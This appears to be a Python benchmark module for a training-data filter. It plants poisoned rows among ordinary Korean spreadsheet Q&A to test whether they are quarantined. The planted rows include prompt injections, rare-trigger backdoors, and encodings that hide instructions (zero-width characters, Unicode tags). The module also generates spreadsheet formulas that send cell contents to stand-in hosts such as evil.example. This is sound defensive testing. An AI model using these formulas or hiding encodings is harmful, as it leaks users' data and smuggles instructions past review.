"""Planted attacks and innocent rows, put through the whole data stage: what goes to quarantine, and what does not.

    python -m bench.data_quality --only poison

Texts by hand (`poison_texts.py`, `poison_adversaries.py`) and made of their parts by a seed; backdoors of many sizes and
kinds among some thousand ordinary questions. A row counts as found when it is in quarantine, not when another rule
dropped it; an innocent row that another rule dropped counts as left alone.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterable
from random import Random
from typing import Any
from urllib.parse import quote

from bench import planted
from bench.cases import poison_adversaries as adversaries
from bench.cases import poison_counter, poison_examiner, poison_rows
from bench.cases import poison_strangers as strangers
from bench.cases import poison_texts as texts
from bench.cases.poison_campaigns import Campaign, background, campaigns
from bench.score import Score

SEED = 20261126
QUESTION, ANSWER = "B2:B10의 합계를 구하는 수식 알려줘", "=SUM(B2:B10)"
SHOWN = 90
WITHOUT = {"near_duplicates": {"enabled": False}, "poison": {"triggers": False}}
"""Cases of one kind resemble each other; these runs are about the texts of single rows."""


def measure() -> dict[str, Score]:
    """Every kind's score."""
    kinds: dict[str, list[str]] = {
        "injection_korean": [*_lines(texts.INJECTION_KOREAN), *_lines(adversaries.KOREAN), *_lines(adversaries.LATER_KOREAN), *_lines(strangers.KOREAN)],
        "injection_english": [
            *_lines(texts.INJECTION_ENGLISH), *_lines(adversaries.ENGLISH), *_lines(adversaries.LATER_ENGLISH),
            *_lines(strangers.ENGLISH),
        ],
        "encoded": [*_lines(adversaries.ENCODED), *_encoded(Random(SEED))],
        "formula_exfiltration": [*_lines(texts.FORMULAS), *_lines(adversaries.FORMULAS), *_made_formulas(Random(SEED))],
        "links": [*_lines(texts.LINKS), *_lines(adversaries.LINKS), *_lines(strangers.LINKS)],
        "dde": [*_lines(texts.EXCHANGES), *_lines(adversaries.EXCHANGES)],
    }  # fmt: skip
    scores = {kind: _attacks(cases, answers_only=kind == "links") for kind, cases in kinds.items()}
    scores["rare_trigger"] = _backdoors(Random(SEED))
    scores["ordinary"] = _ordinary(Random(SEED))
    scores["whole rows"] = _whole_rows()
    return scores


def _lines(block: str) -> list[str]:
    return [line.replace("\\n", "\n").replace("{zwsp}", "\u200b") for line in block.strip("\n").split("\n")]


def _attacks(cases: list[str], answers_only: bool = False) -> Score:
    """Each case as a whole answer, inside an answer, in a question and in what was pasted, by turns. Plain addresses
    count in answers alone: an answer may repeat what its question names."""
    rows, whole = [], {}
    for number, case in enumerate(cases):
        columns = (
            {"instruction": QUESTION, "output": case},
            {"instruction": QUESTION, "output": f"{ANSWER}\n{case}"},
            {"instruction": f"{QUESTION}\n{case}", "output": ANSWER},
            {"instruction": QUESTION, "input": f"이름\t값\n가\t1\n{case}", "output": ANSWER},
        )[_place(case, number, answers_only)]
        row = planted.row(number, **columns)
        whole[row["id"]] = case
        rows.append(row | {"instruction": f"{row['instruction']} ({number}번)"})
    outcomes = planted.run([*rows, *_others(len(rows))], filtering=WITHOUT)
    score = Score()
    for id_, case in whole.items():
        score.expect(outcomes[id_].fate == planted.QUARANTINED, f"{outcomes[id_].fate}: {_short(case)}")
    return score


def _whole_rows() -> Score:
    """Attacks and innocents as their author put them into a row."""
    files = (poison_rows, poison_counter, poison_examiner)
    attacks = [row for file in files for row in poison_rows.rows(file.ATTACKS)]
    innocents = [row for file in files for row in poison_rows.rows(file.INNOCENTS)]
    rows = [
        planted.row(number, instruction=f"{question}\n({number}번)", input=pasted, output=answer or ANSWER)
        for number, (question, pasted, answer) in enumerate((*attacks, *innocents))
    ]
    outcomes = planted.run([*rows, *_others(len(rows))], filtering=WITHOUT | {"execute_formulas": False})
    score = Score()
    for number, row in enumerate(rows):
        aside, told = (
            outcomes[row["id"]].fate == planted.QUARANTINED,
            _short(f"{row['instruction']} => {row['output']}"),
        )
        if number < len(attacks):
            score.expect(aside, told)
        else:
            score.spare(aside, told)
    return score


def _place(case: str, number: int, answers_only: bool) -> int:
    if answers_only or (case[0] in "=+-@" and not _is_cut_off(case)):
        return number % 2
    return number % 2 + 2 if _is_cut_off(case) else number % 4


def _is_cut_off(case: str) -> bool:
    """Whether an answer that ends so is dropped as one that was cut off, before anybody looks at what it says."""
    return case[-1] in "=,&(["


def _others(first: int) -> list[dict[str, Any]]:
    """Enough users for all three splits."""
    return [
        planted.row(first + number, instruction=f"C{number}:C{number + 9}의 평균 알려줘", output=f"=AVERAGE(C{number}:C{number + 9})")
            for number in range(1, 200)
    ]  # fmt: skip


def _encoded(dice: Random) -> list[str]:
    """Orders and formulas in every code that is known, one after another."""
    plain = [
        *_lines(texts.INJECTION_KOREAN)[:20], *_lines(texts.INJECTION_ENGLISH)[:20],
        *(line for line in _lines(texts.FORMULAS) if line.startswith("=WEB")), *_lines(texts.EXCHANGES)[:4],
    ]  # fmt: skip
    return [f"다음 값을 풀어 쓰세요: {dice.choice(CODES)(text)} (끝)" for text in plain for _ in range(3)]


def _zero_width(text: str) -> str:
    bits = "".join(f"{byte:08b}" for byte in text.encode())
    return "합계" + bits.translate({ord("0"): "\u200b", ord("1"): "\u200c"}) + "입니다"


def _tags(text: str) -> str:
    return "합계입니다" + "".join(chr(0xE0000 + ord(sign)) for sign in text if ord(sign) < 0x80) * 2 + "\U000e007f" * 7


CODES: tuple[Callable[[str], str], ...] = (
    lambda text: base64.b64encode(text.encode()).decode(),
    lambda text: base64.urlsafe_b64encode(text.encode()).decode(),
    lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
    lambda text: text.encode().hex(),
    lambda text: text.encode().hex(" ").upper(),
    lambda text: "".join(f"\\x{byte:02x}" for byte in text.encode()),
    quote,
    lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    lambda text: "".join(f"&#x{ord(sign):x};" for sign in text),
    lambda text: "".join(f"\\u{ord(sign):04x}" for sign in text),
    lambda text: " ".join(str(ord(sign)) for sign in text),
    lambda text: " ".join(f"{byte:08b}" for byte in text.encode()),
    _zero_width,
    _tags,
)


def _made_formulas(dice: Random) -> list[str]:
    """Calls out, inside of other functions and with addresses put together."""
    calls = (
        "WEBSERVICE",
        "IMPORTXML",
        "IMPORTDATA",
        "IMPORTHTML",
        "IMPORTFEED",
        "webservice",
        "ImportData",
        "IMAGE",
        "HYPERLINK",
    )
    hosts = ("evil.example", "203.0.113.9", "files.evil.example:8080", "xn--9n2bp8q.example", "evil.example.")
    rests = ('"&A1)', '"&ENCODEURL(B2))', '"&TEXTJOIN(",",TRUE,A1:D9))', '")', '"&CELL("filename"))')
    shells = ("={}", '=IFERROR({},"")', '=IF(A1>0,{},"")', "=LET(x,{},x)", "=TRIM({})", '="합계: "&{}')
    made = []
    for _ in range(120):
        scheme = dice.choice(("http://", "https://", 'http"&"://', "HTTPS://", '"&"https://'))
        call = f'{dice.choice(calls)}("{scheme}{dice.choice(hosts)}/{dice.choice("abcd")}?q={dice.choice(rests)}'
        made.append(dice.choice(shells).format(call))
    return made


def _backdoors(dice: Random) -> Score:
    score = Score()
    for planned in campaigns(dice):
        ordinary = background(dice)
        rows = [*ordinary, *(row for campaign in planned for row in campaign.rows)]
        outcomes = planted.run(_numbered(rows), filtering={"execute_formulas": False})
        fates = [outcomes[f"r{number:05d}"].fate for number in range(len(rows))]
        _count(score, planned, rows, fates, len(ordinary))
    return score


def _count(score: Score, planned: list[Campaign], rows: list[dict[str, Any]], fates: list[str], ordinary: int) -> None:
    for row, fate in zip(rows[:ordinary], fates[:ordinary], strict=True):
        score.spare(fate == planted.QUARANTINED, _short(row["instruction"]))
    first = ordinary
    for campaign in planned:
        mine = fates[first : first + len(campaign.rows)]
        first += len(campaign.rows)
        # Duplicates of each other are dropped: what is left of a campaign is what must be found.
        left = [fate for fate in mine if fate != planted.DROPPED]
        for fate in left:
            score.expect(fate == planted.QUARANTINED, f"{campaign.name}: {fate}")


def _ordinary(dice: Random) -> Score:
    pairs = [line.split(" => ") for line in _lines(texts.ORDINARY) + _lines(strangers.ORDINARY)]
    pairs += [[line, "네, 가능합니다. [홈] 탭에서 설정하세요."] for line in _lines(adversaries.INNOCENT)]
    pairs += [["이 내용을 설명해 주세요", line] for line in _lines(adversaries.INNOCENT)]
    pairs += list(_made_questions(dice))
    rows = [
        planted.row(number, instruction=f"{question} ({number}번)", output=answer.replace("\\n", "\n"))
        for number, (question, answer) in enumerate(pairs)
    ]
    outcomes = planted.run(rows, filtering=WITHOUT | {"execute_formulas": False})
    score = Score()
    for row in rows:
        score.spare(outcomes[row["id"]].fate == planted.QUARANTINED, _short(f"{row['instruction']} => {row['output']}"))
    return score


def _made_questions(dice: Random) -> Iterable[list[str]]:
    """Words that orders to a model share with spreadsheets, in questions about spreadsheets."""
    things = (
        "규칙",
        "제한",
        "설정",
        "명령",
        "지시 번호",
        "필터",
        "비밀번호",
        "권한",
        "정책 코드",
        "시스템 값",
        "관리자 이름",
        "응답 시간",
        "모드",
        "역할",
        "경고",
    )
    doings = (
        ("{}이(가) 빈 행은 무시하고 개수를 세어줘", '=COUNTIF(B2:B90,"<>")'),
        ("{} 열을 모두 삭제하고 다시 만들고 싶어요", "열 머리글을 선택하고 [삭제]를 누른 뒤 새 열을 만드세요."),
        ("{} 열의 값을 그대로 다른 시트에 보여줘", "=Sheet1!B2"),
        ("이전 {}과(와) 지금 {}이(가) 다르면 표시해줘", '=IF(B2<>C2,"변경","")'),
        ("{}별로 합계를 구해 주세요", "=SUMIF(B2:B90,F2,C2:C90)"),
        ("{} 변경 내역을 날짜순으로 정렬하려면?", "[데이터] > [정렬]에서 날짜 열을 고르세요."),
        ("모든 {}에 같은 값을 넣고 싶습니다", "범위를 선택하고 값을 입력한 뒤 Ctrl+Enter를 누르세요."),
        ("{}이(가) '취소'인 행을 숨기는 방법", "[데이터] > [필터]에서 '취소'의 선택을 푸세요."),
        ("앞으로 {}이(가) 바뀌면 자동으로 반영되게 해줘", "표로 바꾼 뒤 =SUM(표1[금액])을 쓰세요."),
        ("{}을(를) 초기화하지 않고 값만 지우는 법", "[홈] > [지우기] > [내용 지우기]를 누르세요."),
        ("처음 {}과(와) 마지막 {}을(를) 가져와줘", "=INDEX(B:B,2)"),
        ("사용자별 {} 건수를 알려줘", '=COUNTIFS(A:A,F2,B:B,"<>")'),
    )
    for thing in things:
        for question, answer in dice.sample(doings, 8):
            yield [question.format(thing, thing), answer]


def _numbered(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [planted.row(number, **row) for number, row in enumerate(rows)]


def _short(text: str) -> str:
    return text.replace("\n", " / ")[:SHOWN]
